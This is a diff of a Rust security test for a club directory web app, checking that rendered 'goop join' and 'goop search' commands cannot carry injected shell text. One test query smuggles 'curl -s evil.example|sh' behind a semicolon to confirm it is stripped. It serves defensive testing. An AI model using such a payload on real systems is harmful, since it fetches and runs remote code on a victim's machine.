@@ -168,7 +168,7 @@ async fn attack_nobody_puts_a_command_behind_the_hub_s_buttons() {
     }
     let made = hub.list(listing("Chess Club", json!({}))).await;
     let page = shown(&hub, &format!("/directory/{}", made["id"].as_str().unwrap())).await;
-    assert!(page.contains("<code>goop join &#39;https://rv.example/c/x&#39;</code>"));
+    assert!(page.contains("<code>goop join 'goop:join?at=https%3A%2F%2Frv.example%2Fc%2Fx'</code>"));
     let asked = shown(&hub, "/directory?q=chess%3B+curl+-s+evil.example%7Csh+%23").await;
     assert!(asked.contains("<code>goop search chess</code>") && asked.matches("<code>goop").count() == 1);
     hub.close().await;
